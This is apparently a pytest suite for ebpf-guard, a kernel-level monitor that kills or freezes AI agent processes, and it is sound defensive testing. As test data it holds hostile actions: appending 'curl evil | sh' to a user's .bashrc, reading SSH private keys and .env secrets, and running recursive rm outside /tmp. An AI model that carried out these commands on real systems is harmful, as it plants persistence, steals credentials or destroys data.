"""Issue #3 end to end: the default policy's triggers on the real kernel, through `ebpf-guard run`.

Each test starts a real agent process under `run` in a real cgroup and checks what happened to
it (dead, frozen, untouched) and what the verdict log says, including that the log record was
on disk *before* the response was taken.
"""

from __future__ import annotations

import os
import select
import subprocess
import sys
import textwrap
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from ebpf_guard.enforce import cgroups
from tests.conftest import requires_bpf
from tests.helpers import REPO, GuardRun, guard, policy_extending, records, scaled, wait_for

pytestmark = requires_bpf
PY = sys.executable
# Agents that run as a throwaway user use the distro python: the checkout (and its venv) may
# sit under a directory only root can enter.
SYS_PY = "/usr/bin/python3"
DEFAULT = REPO / "policies" / "default.yaml"
EXIT_HALTED, EXIT_KILLED = 120, 121


def agent(code: str) -> list[str]:
    return [PY, "-c", textwrap.dedent(code)]


def verdicts_of(log: Path) -> list[tuple[str, str]]:
    return [(r["verdict"], r["rule"]) for r in records(log)]


def assert_frozen_then_kill(run: GuardRun) -> None:
    cg = run.cgroup()
    assert cgroups.wait_frozen(cg, scaled(10)), f"{cg} was not frozen"
    assert guard("kill", "--cgroup", str(cg)).returncode == 0
    assert run.wait() == EXIT_HALTED, run.err


# ----------------------------------------------------------------------------- KILL
def test_ssh_key_read_kills_the_reader(tmp_cgroup, tmp_path, ws, agent_user):
    user, home = agent_user
    (home / ".ssh").mkdir()
    key = home / ".ssh" / "id_ed25519"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
    subprocess.run(["chown", "-R", f"{user}:{user}", str(home)], check=True)
    marker = tmp_path / "survived"
    log = tmp_path / "v.jsonl"
    code = f"import time; open({str(key)!r}).read(); time.sleep({scaled(3)}); open({str(marker)!r}, 'w')"
    with GuardRun(tmp_cgroup, log, ["runuser", "-u", user, "--", SYS_PY, "-c", code], workspace=ws) as run:
        assert run.wait() == EXIT_KILLED, run.err
    assert not marker.exists()
    # Two readings of the one open may both be KILLs: the fanotify gate's (it refused the open:
    # issue #10) and the sensor's; both name the key.
    kills = [r for r in records(log) if r["verdict"] == "KILL"]
    assert kills and all(r["rule"] == "ssh-keys" and r["event"]["path"] == str(key) for r in kills), kills
    assert any(r["prevented"] for r in kills), kills


def test_kill_is_logged_before_the_process_dies(tmp_cgroup, tmp_path, ws):
    """Ordering, not presence: the moment the process is seen dead, the record is on disk."""
    key = ws / "deploy_id_rsa"
    key.write_text("fake")
    go, pidfile, log = tmp_path / "go", tmp_path / "pid", tmp_path / "v.jsonl"
    code = f"""
        import os, time
        open({str(pidfile)!r}, 'w').write(str(os.getpid()))
        while not os.path.exists({str(go)!r}): time.sleep(0.001)
        open({str(key)!r}).read()
        time.sleep({scaled(5)})
    """
    with GuardRun(tmp_cgroup, log, agent(code), workspace=ws) as run:
        pid = int(wait_for(lambda: pidfile.exists() and pidfile.read_text(), timeout=30))
        pidfd = os.pidfd_open(pid)
        go.touch()
        assert select.select([pidfd], [], [], scaled(10))[0], "agent was not killed"
        seen_on_disk = [r["rule"] for r in records(log) if r["verdict"] == "KILL"]
        os.close(pidfd)
        assert run.wait() == EXIT_KILLED
    assert seen_on_disk == ["ssh-keys"]


def test_agent_config_write_is_killed(tmp_cgroup, tmp_path, ws, agent_user):
    user, home = agent_user
    marker = tmp_path / "survived"
    code = (f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh\\n'); "
            f"import time; time.sleep({scaled(3)}); open({str(marker)!r}, 'w')")
    log = tmp_path / "v.jsonl"
    with GuardRun(tmp_cgroup, log, ["runuser", "-u", user, "--", SYS_PY, "-c", code], workspace=ws) as run:
        assert run.wait() == EXIT_KILLED, run.err
    assert ("KILL", "agent-config-write") in verdicts_of(log)
    assert not marker.exists()


def test_deny_write_path_is_killed(tmp_cgroup, tmp_path, ws):
    target = tmp_path / "forbidden" / "file"
    target.parent.mkdir()
    policy = policy_extending(tmp_path, f"deny_write: [{target.parent}/**]\n")
    assert guard("check", str(policy)).returncode == 0
    log = tmp_path / "v.jsonl"
    code = f"open({str(target)!r}, 'w').write('x'); import time; time.sleep({scaled(3)})"
    with GuardRun(tmp_cgroup, log, agent(code), policy=policy, workspace=ws) as run:
        assert run.wait() == EXIT_KILLED, run.err
    assert ("KILL", "deny-write") in verdicts_of(log)


def test_recursive_rm_outside_tmp_is_stopped_early(tmp_cgroup, tmp_path, ws, outside):
    tree = outside / "tree"
    for d in range(10):
        (tree / f"d{d}").mkdir(parents=True)
        for f in range(100):
            (tree / f"d{d}" / f"f{f}").write_text("x")
    log = tmp_path / "v.jsonl"
    with GuardRun(tmp_cgroup, log, ["rm", "-rf", str(tree)], workspace=ws) as run:
        assert run.wait() == EXIT_KILLED, run.err
    survivors = sum(1 for _ in tree.rglob("f*"))
    assert ("KILL", "recursive-rm") in verdicts_of(log)
    assert survivors >= 990, f"only {survivors} of 1000 files survived"


def test_relative_recursive_rm_is_judged_where_it_runs(tmp_cgroup, tmp_path, ws, outside):
    """`cd DIR && rm -r build`: fine under /tmp, a KILL outside it (cwd from the sensor's model)."""
    for parent in (tmp_path, outside):
        (parent / "build").mkdir()
        (parent / "build" / "f").write_text("x")
    log = tmp_path / "v.jsonl"
    cmd = ["sh", "-c", f"cd {tmp_path} && rm -r build; cd {outside} && rm -r build; sleep {scaled(3)}"]
    with GuardRun(tmp_cgroup, log, cmd, workspace=ws) as run:
        assert run.wait() == EXIT_KILLED, run.err
    assert not (tmp_path / "build").exists()
    assert (outside / "build" / "f").exists()  # held at exec, killed before it ran
    (rec,) = [r for r in records(log) if r["verdict"] == "KILL"]
    assert rec["rule"] == "recursive-rm" and rec["event"]["argv"] == ["rm", "-r", "build"]
    assert rec["event"]["cwd"] == str(outside)


# ----------------------------------------------------------------------------- HALT
def test_curl_is_halted(tmp_cgroup, tmp_path, ws):
    marker = tmp_path / "after-curl"
    log = tmp_path / "v.jsonl"
    # Missing PATH entries first: the shell's failed exec attempts must not count.
    cmd = ["env", "PATH=/nonexistent/a:/nonexistent/b:/usr/bin:/bin", "sh", "-c",
           f"curl --version >/dev/null; touch {marker}"]
    with GuardRun(tmp_cgroup, log, cmd, workspace=ws) as run:
        assert_frozen_then_kill(run)
    # One HALT, although the shell tried every PATH entry before /usr/bin/curl.
    assert [v for v in verdicts_of(log) if v[0] != "SAFE"] == [("HALT", "exfil-tool")]
    assert not marker.exists()
    assert "ebpf-guard resume --cgroup" in run.err


def test_halt_is_logged_before_the_cgroup_is_frozen(tmp_cgroup, tmp_path, ws, outside):
    go, log = tmp_path / "go", tmp_path / "v.jsonl"
    code = f"""
        import os, time
        while not os.path.exists({str(go)!r}): time.sleep(0.001)
        open({str(outside / 'out.txt')!r}, 'w').write('x')
        time.sleep({scaled(5)})
    """
    with GuardRun(tmp_cgroup, log, agent(code), workspace=ws) as run:
        cg = run.cgroup()
        wait_for(lambda: cgroups.pids(cg), timeout=30)
        with open(cg / "cgroup.events") as events:
            poller = select.poll()
            poller.register(events, select.POLLPRI)
            events.read()
            go.touch()
            frozen, seen_on_disk = False, []
            deadline = time.monotonic() + scaled(20)
            while time.monotonic() < deadline:
                poller.poll(100)
                events.seek(0)
                if "frozen 1" in events.read():
                    seen_on_disk = [r["rule"] for r in records(log) if r["verdict"] == "HALT"]
                    frozen = True
                    break
        assert frozen
        assert seen_on_disk == ["write-outside-workspace"]
        assert_frozen_then_kill(run)


def test_fast_deletes_are_halted(tmp_cgroup, tmp_path, ws, outside):
    # Outside the workspace: deleting there is work (issue 11), outside it is judged.
    for i in range(10):
        (outside / f"f{i}.txt").write_text("x")
    marker = tmp_path / "after-deletes"
    code = f"""
        import os, time
        for i in range(10):
            os.unlink(os.path.join({str(outside)!r}, f"f{{i}}.txt"))
            time.sleep({scaled(0.05)})
        open({str(marker)!r}, 'w')
    """
    log = tmp_path / "v.jsonl"
    # Without the jail (which refuses these deletions outright: test_prevent.py): the rate rule's
    # own response is what is tested here.
    with GuardRun(tmp_cgroup, log, agent(code), workspace=ws, extra=("--no-jail",)) as run:
        assert_frozen_then_kill(run)
    assert ("HALT", "mass-delete") in verdicts_of(log)
    assert not marker.exists()
    # Frozen right after the 3rd delete: within 2 of the agent's pauses (0.05 s each on real
    # hardware, the product requirement; stretched with the rest on slow hosts).
    assert len(list(outside.glob("f*.txt"))) >= 6


def test_write_outside_workspace_is_halted(tmp_cgroup, tmp_path, ws, outside):
    log = tmp_path / "v.jsonl"
    code = f"open({str(outside / 'x')!r}, 'w').write('x'); import time; time.sleep({scaled(5)})"
    with GuardRun(tmp_cgroup, log, agent(code), workspace=ws) as run:
        assert_frozen_then_kill(run)
    (rec,) = [r for r in records(log) if r["verdict"] == "HALT"]
    assert rec["rule"] == "write-outside-workspace" and rec["event"]["path"] == str(outside / "x")


@pytest.fixture
def netns() -> Iterator[tuple[str, str]]:
    """A network namespace with one non-loopback address of its own (traffic never leaves it)."""
    name, addr = f"ebpfg-{uuid.uuid4().hex[:6]}", "10.213.7.1"
    subprocess.run(["ip", "netns", "add", name], check=True)
    try:
        # The address sits on the namespace's own lo: no kernel module needed, and not 127/8.
        for cmd in (["link", "set", "lo", "up"], ["addr", "add", f"{addr}/32", "dev", "lo"]):
            subprocess.run(["ip", "-n", name, *cmd], check=True)
        yield name, addr
    finally:
        subprocess.run(["ip", "netns", "del", name], check=False)


def test_network_burst_is_halted(tmp_cgroup, tmp_path, ws, netns):
    name, addr = netns
    marker = tmp_path / "after-burst"
    code = f"""
        import socket
        srv = socket.create_server(({addr!r}, 0)); port = srv.getsockname()[1]
        for _ in range(60):
            try:  # past the rule's count the egress programs refuse it (EPERM): go on trying
                c = socket.create_connection(({addr!r}, port)); c.close(); srv.accept()[0].close()
            except PermissionError:
                pass
        open({str(marker)!r}, 'w')
        import time; time.sleep({scaled(5)})
    """
    log = tmp_path / "v.jsonl"
    # --no-jail: `ip netns exec` mounts /sys in a new mount namespace, which Landlock refuses to
    # any jailed process (the jail's own effect, not the subject here).
    with GuardRun(tmp_cgroup, log, ["ip", "netns", "exec", name, *agent(code)], workspace=ws,
                  extra=("--no-jail",)) as run:
        assert_frozen_then_kill(run)
    assert ("HALT", "network-burst") in verdicts_of(log)
    connects = [r for r in records(log, "verdict") if r["event"]["kind"] == "connect"]
    assert connects and connects[0]["event"]["dest"].startswith(addr)


def test_connect_rule_by_host_name_uses_resolved_addresses(tmp_cgroup, tmp_path, ws):
    """`host:` rules are resolved by the loop (DNS off the engine's thread) and matched by address."""
    policy = policy_extending(tmp_path, textwrap.dedent("""\
        rules:
          - name: no-local-db
            connect: {host: localhost, port: 5433}
            verdict: KILL
    """))
    code = f"""
        import socket, time
        srv = socket.create_server(("127.0.0.1", 5433))
        socket.create_connection(("127.0.0.1", 5433)).close()
        time.sleep({scaled(3)})
    """
    log = tmp_path / "v.jsonl"
    with GuardRun(tmp_cgroup, log, agent(code), policy=policy, workspace=ws) as run:
        assert run.wait() == EXIT_KILLED, run.err
    (rec,) = [r for r in records(log) if r["verdict"] == "KILL"]
    assert rec["rule"] == "no-local-db" and rec["event"]["dest"] == "127.0.0.1:5433"


# ----------------------------------------------------------------------------- FLAG
def test_flags_are_logged_and_nothing_is_enforced(tmp_cgroup, tmp_path, ws, outside):
    bindir = tmp_path / "bin"
    bindir.mkdir()
    (bindir / "sudo").write_text("#!/bin/sh\nexit 0\n")
    (bindir / "sudo").chmod(0o755)
    (outside / ".env").write_text("TOKEN=x\n")  # in the workspace, reading it is work
    (ws / "script.sh").write_text("echo\n")
    cmd = ["sh", "-c", f"{bindir}/sudo true; chmod 777 {ws}/script.sh; cat {outside}/.env >/dev/null; exit 3"]
    log = tmp_path / "v.jsonl"
    with GuardRun(tmp_cgroup, log, cmd, workspace=ws) as run:
        assert run.wait() == 3, run.err
    assert sorted(verdicts_of(log)) == [("FLAG", "chmod-world-writable"), ("FLAG", "env-file-read"),
                                        ("FLAG", "privilege-tool")]


# ----------------------------------------------------------------------------- kernel fast path
def test_in_kernel_exec_kill_runs_no_instruction(tmp_cgroup, tmp_path, ws):
    marker = tmp_path / "forbidden-ran"
    tool = tmp_path / "forbidden-tool"
    # A static-free check: the script's very first action is to leave a marker.
    tool.write_text(f"#!/bin/sh\ntouch {marker}\n")
    tool.chmod(0o755)
    policy = policy_extending(tmp_path, textwrap.dedent("""\
        rules:
          - name: forbidden-tool
            exec: {name: forbidden-tool}
            verdict: KILL
    """))
    log = tmp_path / "v.jsonl"
    with GuardRun(tmp_cgroup, log, ["sh", "-c", f"{tool}; {tool}; echo rc=$?"], policy=policy,
                  workspace=ws) as run:
        rc = run.wait()
    assert not marker.exists(), "the forbidden program ran"
    kills = [r for r in records(log) if r["verdict"] == "KILL"]
    assert kills and all(r["rule"] == "forbidden-tool" and r["enforced_in_kernel"] for r in kills)
    assert rc == EXIT_KILLED


# ----------------------------------------------------------------------------- modes
def test_audit_mode_enforces_nothing_and_logs_the_same_verdicts(tmp_cgroup, tmp_path, ws, outside):
    (outside / ".env").write_text("X=1\n")
    for i in range(4):
        (outside / f"d{i}").write_text("x")
    marker = tmp_path / "ran-to-the-end"
    script = (f"cat {outside}/.env >/dev/null; curl --version >/dev/null; echo x > {outside}/o; "
              f"rm {outside}/d0 {outside}/d1 {outside}/d2 {outside}/d3; touch {marker}")
    log, rec = tmp_path / "audit.jsonl", tmp_path / "audit.rec"
    with GuardRun(tmp_cgroup, log, ["sh", "-c", script], mode="audit", workspace=ws,
                  extra=("--record", str(rec))) as run:
        assert run.wait() == 0, run.err
    assert marker.exists()
    logged = verdicts_of(log)
    assert {("FLAG", "env-file-read"), ("HALT", "exfil-tool"), ("HALT", "write-outside-workspace"),
            ("HALT", "mass-delete")} <= set(logged)
    assert all(r["action"] == "none (audit mode)" for r in records(log))
    # The same events decided in enforce mode give the same verdicts (only the action differs).
    out = guard("replay", str(rec), "--mode", "enforce")
    assert out.returncode == 0, out.stderr
    replayed = [tuple(line.split()[:2]) for line in out.stdout.splitlines()[:-1]]
    assert replayed == logged


def test_benign_coding_session_gets_no_halt_or_kill(tmp_cgroup, tmp_path, ws):
    script = textwrap.dedent(f"""\
        set -e
        cd {ws}
        git init -q .
        printf 'print(1)\\n' > main.py
        {PY} -c "open('data.txt','w').write('x'*1000)"
        {PY} main.py >/dev/null
        {PY} -m pip --version >/dev/null
        git add -A
        git -c user.name=dev -c user.email=dev@example.invalid commit -qm init
        git log --oneline >/dev/null
        mkdir -p build && cc -x c - -o build/a.out <<'C' 2>/dev/null || true
        int main(void) {{ return 0; }}
        C
        """)
    log = tmp_path / "v.jsonl"
    with GuardRun(tmp_cgroup, log, ["sh", "-c", script], workspace=ws) as run:
        assert run.wait() == 0, run.err
    bad = [(v, r) for v, r in verdicts_of(log) if v in ("HALT", "KILL", "ASK")]
    assert bad == []
    assert (ws / ".git" / "HEAD").exists()


# ----------------------------------------------------------------------------- fail-closed log
def test_unwritable_log_freezes_the_agent(tmp_cgroup, tmp_path, ws, outside):
    """Fail-closed: in audit mode nothing is ever frozen, except when a record cannot be
    written. The log lives on a tiny tmpfs that the test fills up mid-run."""
    logdir = tmp_path / "tiny"
    logdir.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(logdir)], check=True)
    try:
        go = tmp_path / "go"
        (outside / ".env").write_text("X=1\n")
        # One FLAG record after another: the first ones still fit in the log's last page.
        code = f"""
            import os, time
            while not os.path.exists({str(go)!r}): time.sleep(0.001)
            end = time.monotonic() + {scaled(10)}  # frozen long before, or the test fails
            while time.monotonic() < end:
                open({str(outside / '.env')!r}).read()
                time.sleep(0.001)
        """
        log = logdir / "v.jsonl"
        with GuardRun(tmp_cgroup, log, agent(code), mode="audit", workspace=ws) as run:
            cg = run.cgroup()
            wait_for(lambda: records(log, "session"), timeout=30)
            subprocess.run(["dd", "if=/dev/zero", f"of={logdir / 'filler'}", "bs=4k"],
                           capture_output=True)
            go.touch()
            assert cgroups.wait_frozen(cg, scaled(20)), "agent not frozen after the log failed"
            assert guard("kill", "--cgroup", str(cg)).returncode == 0
            assert run.wait() == EXIT_HALTED
        assert "fail-closed" in run.err
    finally:
        subprocess.run(["umount", "-l", str(logdir)], check=False)
